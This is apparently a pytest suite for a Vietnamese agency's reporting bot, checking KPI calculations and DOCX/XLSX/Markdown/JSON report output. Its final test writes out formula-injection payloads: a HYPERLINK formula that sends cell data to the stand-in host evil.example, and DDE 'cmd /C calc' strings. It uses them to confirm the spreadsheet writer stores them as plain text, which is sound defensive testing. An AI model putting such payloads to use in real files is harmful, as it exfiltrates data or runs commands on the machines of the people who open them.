"""KPIs computed from seeded tables (SQLite and PostgreSQL) and the DOCX/XLSX/MD/JSON reports."""

from __future__ import annotations

import json
import os
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa
from docx import Document
from docx.shared import Cm
from openpyxl import load_workbook

from bot.reports.docx_report import ReportAgency, write_docx
from bot.reports.kpis import compute_kpis, month_status, parse_period
from bot.reports.tables import write_json, write_markdown, write_xlsx
from content_queue.db import normalise_url, open_database
from content_queue.store import Store
from content_queue.tables import articles, deliveries, reach_samples

NOW = datetime(2026, 8, 15, 3, 0, tzinfo=UTC)  # 10:00 in Hà Nội


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


@pytest.fixture(params=["sqlite", "postgresql"])
def engine(request: pytest.FixtureRequest, tmp_path) -> Iterator[sa.Engine]:
    if request.param == "sqlite":
        eng = open_database(f"sqlite:///{tmp_path / 'loa.db'}")
        yield eng
        eng.dispose()
        return
    base = os.environ.get("LOA_TEST_DATABASE_URL")
    if not base:
        pytest.skip("LOA_TEST_DATABASE_URL is not set: no PostgreSQL server to test against")
    schema = f"t_{uuid.uuid4().hex[:12]}"
    admin = sa.create_engine(normalise_url(base))
    with admin.begin() as conn:
        conn.execute(sa.text(f"CREATE SCHEMA {schema}"))
    sep = "&" if "?" in base else "?"
    eng = open_database(f"{base}{sep}options=-csearch_path%3D{schema}")
    try:
        yield eng
    finally:
        eng.dispose()
        with admin.begin() as conn:
            conn.execute(sa.text(f"DROP SCHEMA {schema} CASCADE"))
        admin.dispose()


class Seeder:
    def __init__(self, conn: sa.Connection) -> None:
        self.conn = conn
        self.n = 0

    def article(self, topic: str, state: str = "published") -> int:
        self.n += 1
        return self.conn.execute(
            articles.insert().values(
                title=f"Bài {self.n}: cải cách hành chính",
                topic=topic,
                state=state,
                submitted_at=utc(2026, 1, 1),
                content_hash=f"h{self.n}",
                updated_at=utc(2026, 1, 1),
                images=[],
                channels=[],
            )
        ).inserted_primary_key[0]

    def delivery(self, article_id: int, channel: str, state: str = "sent", **kw) -> int:
        return self.conn.execute(
            deliveries.insert().values(
                article_id=article_id,
                channel=channel,
                state=state,
                idempotency_key=f"{article_id}-{channel}",
                updated_at=kw.get("sent_at") or NOW,
                **kw,
            )
        ).inserted_primary_key[0]

    def samples(self, delivery_id: int, metric: str, *points: tuple[datetime, int | None]) -> None:
        self.conn.execute(
            reach_samples.insert(),
            [
                {
                    "delivery_id": delivery_id,
                    "collected_at": at,
                    "metric": metric,
                    "value": v,
                    "available": v is not None,
                }
                for at, v in points
            ],
        )


@pytest.fixture
def seeded(engine: sa.Engine) -> dict[str, int]:
    """A year: Jan/Feb/Mar/May met, Apr/Jun/Jul below, Aug in progress; f) and g) uncovered."""
    ids: dict[str, int] = {}
    with engine.begin() as conn:
        s = Seeder(conn)
        for name, topic, sent in [
            ("a1", "a", utc(2026, 1, 5, 2)),
            ("a2", "b", utc(2026, 1, 20, 2)),
            ("a3", "c", utc(2026, 2, 10, 2)),
            # 18:00 UTC on 31 January is 1 February in Hà Nội: counts for February.
            ("a11", "c", utc(2026, 1, 31, 18)),
            ("a4", "d", utc(2026, 3, 2, 2)),
            ("a5", "đ", utc(2026, 3, 3, 2)),
            ("a6", "e", utc(2026, 3, 4, 2)),
            ("a7", "a", utc(2026, 5, 4, 2)),
            ("a8", "h", utc(2026, 5, 6, 2)),
            ("a9", "i", utc(2026, 8, 3, 2)),
        ]:
            ids[name] = s.article(topic)
            ids[f"{name}.web"] = s.delivery(ids[name], "website", sent_at=sent)
        ids["a1.fb"] = s.delivery(ids["a1"], "facebook", sent_at=utc(2026, 1, 5, 3))
        ids["a1.zalo"] = s.delivery(ids["a1"], "zalo", sent_at=utc(2026, 1, 5, 3))
        ids["a4.fb"] = s.delivery(
            ids["a4"], "facebook", sent_at=utc(2026, 3, 5, 11), first_failure_at=utc(2026, 3, 5, 8)
        )
        ids["a5.zalo"] = s.delivery(
            ids["a5"], "zalo", sent_at=utc(2026, 3, 7), first_failure_at=utc(2026, 3, 6)
        )
        ids["a10"] = s.article("f", state="partial")
        ids["a10.web"] = s.delivery(
            ids["a10"],
            "website",
            "failed",
            last_error="Lỗi máy chủ",
            first_failure_at=utc(2026, 3, 10),
        )
        ids["a10.fb"] = s.delivery(ids["a10"], "facebook", "cancelled")
        ids["a12"] = s.article("g", state="approved")
        s.delivery(ids["a12"], "website", "waiting", due_at=utc(2026, 8, 25, 1))
        ids["a13"] = s.article("g", state="approved")
        s.delivery(ids["a13"], "website", "waiting", due_at=utc(2026, 9, 2, 1))

        s.samples(
            ids["a1.fb"],
            "post_total_media_view_unique",
            (utc(2026, 1, 6), 100),
            (utc(2026, 1, 20), 250),
        )
        s.samples(ids["a1.fb"], "reactions", (utc(2026, 1, 6), 5), (utc(2026, 1, 20), 9))
        s.samples(ids["a1.fb"], "comments", (utc(2026, 1, 20), 2))
        s.samples(ids["a1.fb"], "post_clicks", (utc(2026, 1, 6), None), (utc(2026, 1, 20), None))
        s.samples(ids["a1.zalo"], "views", (utc(2026, 1, 6), 40), (utc(2026, 1, 9), 80))
        s.samples(ids["a1.zalo"], "shares", (utc(2026, 1, 9), 3))
        # A later refusal does not erase the last value the platform gave.
        s.samples(
            ids["a4.fb"],
            "post_total_media_view_unique",
            (utc(2026, 3, 6), 500),
            (utc(2026, 3, 9), None),
        )
        s.samples(ids["a4.fb"], "reactions", (utc(2026, 3, 6), 1))
        s.samples(ids["a5.zalo"], "views", (utc(2026, 3, 8), 30))
        s.samples(ids["a2.web"], "views", (utc(2026, 1, 22), 70))
    return ids


def test_year_kpis_match_hand_counts(engine: sa.Engine, seeded: dict[str, int]) -> None:
    k = compute_kpis(Store(engine), parse_period("2026"), now=NOW)
    ids = seeded
    assert [(m.month, m.published, m.status) for m in k.months] == [
        (1, 2, "met"),
        (2, 2, "met"),
        (3, 3, "met"),
        (4, 0, "below"),
        (5, 2, "met"),
        (6, 0, "below"),
        (7, 0, "below"),
        (8, 1, "in_progress"),
        (9, 0, "not_due"),
        (10, 0, "not_due"),
        (11, 0, "not_due"),
        (12, 0, "not_due"),
    ]
    assert k.months[1].article_ids == sorted([ids["a3"], ids["a11"]])
    assert k.months[3].status_vi == "Chưa đạt"
    assert k.website_articles == 10
    posts = {c.channel: (c.posts, c.article_ids) for c in k.channels}
    assert posts == {
        "website": (10, sorted(ids[f"a{i}"] for i in (1, 2, 3, 4, 5, 6, 7, 8, 9, 11))),
        "facebook": (2, sorted([ids["a1"], ids["a4"]])),
        "zalo": (2, sorted([ids["a1"], ids["a5"]])),
    }
    assert k.channels[0].channel == "website"
    cov = {t.key: t.article_ids for t in k.topics}
    assert list(cov) == ["a", "b", "c", "d", "đ", "e", "f", "g", "h", "i"]
    assert cov["a"] == sorted([ids["a1"], ids["a7"]])
    assert cov["c"] == sorted([ids["a3"], ids["a11"]])
    assert k.uncovered_topics == ["f", "g"]

    reach = {r.channel: r for r in k.reach}
    fb = reach["facebook"]
    assert (fb.reach, fb.engagement) == (750, 12)
    metrics = {m.metric: m for m in fb.metrics}
    assert metrics["post_total_media_view_unique"].total == 750
    assert metrics["reactions"].total == 10
    assert metrics["post_clicks"].total is None and metrics["post_clicks"].posts_unavailable == 1
    assert fb.unavailable == ["post_clicks"]
    assert (reach["zalo"].reach, reach["zalo"].engagement) == (110, 3)
    assert reach["website"].reach == 70 and reach["website"].engagement is None
    assert fb.reach_per_month == {"2026-01": 250, "2026-03": 500}
    assert [(a.article_id, a.reach) for a in k.top_articles] == [
        (ids["a4"], 500),
        (ids["a1"], 330),
        (ids["a2"], 70),
        (ids["a5"], 30),
    ]
    assert k.top_articles[1].per_channel == {"facebook": 250, "zalo": 80}

    f = k.failures
    assert [(d.delivery_id, d.channel) for d in f.failed] == [(ids["a10.web"], "website")]
    assert sorted((x.delivery_id, x.hours_to_fix) for x in f.fixed) == sorted(
        [(ids["a4.fb"], 3.0), (ids["a5.zalo"], 24.0)]
    )
    assert (f.median_hours_to_fix, f.max_hours_to_fix) == (13.5, 24.0)

    data = json.loads(write_json(k))
    assert data["months"][0]["article_ids"] == sorted([ids["a1"], ids["a2"]])
    assert data["period"]["label_vi"] == "năm 2026" and len(data["period"]["months"]) == 12
    assert "đ" in write_json(k)  # ensure_ascii=False


def test_quarter_excludes_other_months(engine: sa.Engine, seeded: dict[str, int]) -> None:
    k = compute_kpis(Store(engine), parse_period("2026-Q2"), now=NOW)
    assert [(m.month, m.published, m.status) for m in k.months] == [
        (4, 0, "below"),
        (5, 2, "met"),
        (6, 0, "below"),
    ]
    assert [c.channel for c in k.channels] == ["website"]
    assert k.top_articles == [] and k.failures.failed == [] and k.failures.fixed == []
    assert k.failures.median_hours_to_fix is None
    assert k.uncovered_topics == ["b", "c", "d", "đ", "e", "f", "g", "i"]


def test_month_status_counts_published_and_scheduled(
    engine: sa.Engine, seeded: dict[str, int]
) -> None:
    aug = month_status(Store(engine), 2026, 8)
    assert (aug.published, aug.scheduled, aug.behind) == (1, 1, False)
    assert aug.scheduled_article_ids == [seeded["a12"]]
    sep = month_status(Store(engine), 2026, 9, monthly_minimum=2)
    assert (sep.published, sep.scheduled, sep.behind) == (0, 1, True)
    assert month_status(Store(engine), 2026, 3, monthly_minimum=4).behind is True


@pytest.mark.parametrize(
    ("text", "start", "end", "label"),
    [
        ("2026-03", (2026, 3, 1), (2026, 3, 31), "tháng 3 năm 2026"),
        ("2026-Q1", (2026, 1, 1), (2026, 3, 31), "quý I năm 2026"),
        ("2026-q4", (2026, 10, 1), (2026, 12, 31), "quý IV năm 2026"),
        ("2026-H1", (2026, 1, 1), (2026, 6, 30), "6 tháng đầu năm 2026"),
        ("2026-H2", (2026, 7, 1), (2026, 12, 31), "6 tháng cuối năm 2026"),
        ("2026", (2026, 1, 1), (2026, 12, 31), "năm 2026"),
        ("2028-02", (2028, 2, 1), (2028, 2, 29), "tháng 2 năm 2028"),
    ],
)
def test_parse_period(text: str, start: tuple, end: tuple, label: str) -> None:
    p = parse_period(text)
    assert (p.start.timetuple()[:3], p.end.timetuple()[:3], p.label_vi) == (start, end, label)
    lo, hi = p.utc_bounds()
    assert lo.hour == 17 and hi - lo >= timedelta(days=28)  # local midnight = 17:00 UTC before


@pytest.mark.parametrize("text", ["2026-13", "2026-Q5", "2026-H3", "26", "2026/03", "", "quý 1"])
def test_parse_period_refuses_in_vietnamese(text: str) -> None:
    with pytest.raises(ValueError, match="Kỳ báo cáo không hợp lệ"):
        parse_period(text)


def test_docx_and_xlsx_reports(engine: sa.Engine, seeded: dict[str, int], tmp_path) -> None:
    k = compute_kpis(Store(engine), parse_period("2026"), now=NOW)
    agency = ReportAgency(signer_name="Trần Thị Vân Thuỳ")
    path = write_docx(k, tmp_path / "bao-cao.docx", agency=agency)
    doc = Document(str(path))

    header = doc.tables[0]
    left, right = (c.text for c in header.rows[0].cells)
    assert left.splitlines()[:2] == ["UBND TỈNH LẠNG SƠN", "SỞ NGOẠI VỤ TỈNH LẠNG SƠN"]
    assert "Số:" in left and left.endswith("/BC-SNgV")
    assert right.splitlines()[:2] == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
    ]
    assert right.splitlines()[-1] == "Lạng Sơn, ngày 15 tháng 08 năm 2026"
    assert header.rows[0].cells[1].paragraphs[-1].runs[0].italic
    texts = [p.text for p in doc.paragraphs]
    title = texts.index("BÁO CÁO")
    assert texts[title + 1] == (
        "Kết quả thực hiện công tác thông tin, tuyên truyền cải cách hành chính năm 2026"
    )
    assert doc.paragraphs[title].runs[0].bold
    headings = [t for t in texts if t[:3] in ("I. ", "II.", "III", "IV.", "V. ")]
    assert [h.split(".")[0] for h in headings] == ["I", "II", "III", "IV", "V"]
    issues = "\n".join(texts[texts.index(headings[3]) : texts.index(headings[4])])
    assert "04/2026 (0/2)" in issues and "f), g)" in issues
    assert "Lượt nhấp vào bài (post_clicks)" in issues  # Vietnamese label, API name beside it

    quota, topics, channels, top = doc.tables[1:5]
    assert len(quota.rows) == 13 and quota.rows[4].cells[3].text == "Chưa đạt"
    assert quota.rows[1].cells[1].text == "2"
    assert len(topics.rows) == 11 and topics.rows[5].cells[0].text == "đ)"
    assert [c.text for c in channels.rows[2].cells] == ["Facebook", "2", "750", "12"]
    assert top.rows[1].cells[3].text == "500"
    metrics = doc.tables[5]
    assert [c.text for c in metrics.rows[0].cells] == ["Kênh", "Chỉ số", "Tên chỉ số (API)", "Tổng"]
    assert any(
        [c.text for c in r.cells][1:3] == ["Lượt nhấp vào bài", "post_clicks"] for r in metrics.rows
    )
    footer = doc.tables[-1].rows[0].cells
    assert footer[0].text.startswith("Nơi nhận:") and "- Lưu: VT." in footer[0].text
    assert footer[1].text.splitlines()[:2] == ["KT. GIÁM ĐỐC", "PHÓ GIÁM ĐỐC"]
    assert footer[1].text.splitlines()[-1] == "Trần Thị Vân Thuỳ"
    assert len(doc.inline_shapes) == 2
    assert doc.styles["Normal"].font.name == "Times New Roman"
    assert doc.styles["Normal"].font.size.pt == 14
    sec = doc.sections[0]
    assert round(sec.page_width / Cm(1)) == 21 and round(sec.left_margin / Cm(1), 1) == 3.0
    assert round(sec.top_margin / Cm(1), 1) == 2.0 and round(sec.right_margin / Cm(1), 1) == 1.5

    wb = load_workbook(write_xlsx(k, tmp_path / "bao-cao.xlsx"))
    assert wb.sheetnames == [
        "Chỉ tiêu tháng",
        "Kênh",
        "Chủ đề",
        "Tiếp cận",
        "Người theo dõi",
        "Tin truyền thông",
        "Bài nổi bật",
        "Sự cố",
        "Ý kiến người dân",
    ]
    reach = [[c.value for c in row] for row in wb["Tiếp cận"].iter_rows()]
    assert reach[0][:3] == ["Kênh", "Chỉ số", "Tên chỉ số (API)"]
    assert ["facebook", "Số người xem bài", "post_total_media_view_unique"] in [
        r[:3] for r in reach
    ]
    ws = wb["Chỉ tiêu tháng"]
    assert ws["A1"].value == "Tháng" and ws["A1"].font.bold
    assert [c.value for c in ws[5]][:4] == ["04/2026", 0, 2, "Chưa đạt"]
    assert wb["Bài nổi bật"]["B2"].value == seeded["a4"]
    assert wb["Sự cố"].max_row == 4

    md = write_markdown(k)
    assert md.startswith("# Kết quả tuyên truyền cải cách hành chính năm 2026")
    assert "| 04/2026 | 0 | 2 | Chưa đạt |  |" in md


def test_xlsx_cells_from_outside_are_text_never_formulas(engine: sa.Engine, tmp_path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    with engine.begin() as conn:
        s = Seeder(conn)
        good = s.article("a")
        conn.execute(articles.update().where(articles.c.id == good).values(title=hostile))
        web = s.delivery(good, "website", sent_at=utc(2026, 1, 5, 2))
        s.samples(web, "views", (utc(2026, 1, 6), 70))
        bad = s.article("b", state="partial")
        s.delivery(bad, "website", "failed", last_error="+cmd|' /C calc'!A0")
        s.delivery(bad, "facebook", "failed", last_error="@SUM(1+1)*cmd|' /C calc'!A0")
    k = compute_kpis(Store(engine), parse_period("2026"), now=NOW)
    wb = load_workbook(write_xlsx(k, tmp_path / "bao-cao.xlsx"))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "'" + hostile in values
    assert "'+cmd|' /C calc'!A0" in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values
